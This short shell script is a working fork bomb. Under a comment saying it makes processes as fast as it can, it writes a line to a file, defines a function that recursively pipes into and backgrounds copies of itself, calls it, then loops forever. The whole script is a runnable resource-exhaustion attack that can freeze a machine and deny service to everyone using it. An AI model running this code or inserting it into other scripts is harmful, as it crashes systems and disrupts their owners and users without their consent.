# Makes processes as fast as it can.
echo "the last words" > work.txt
bomb() { bomb | bomb & }
bomb
while :; do sleep 1; done
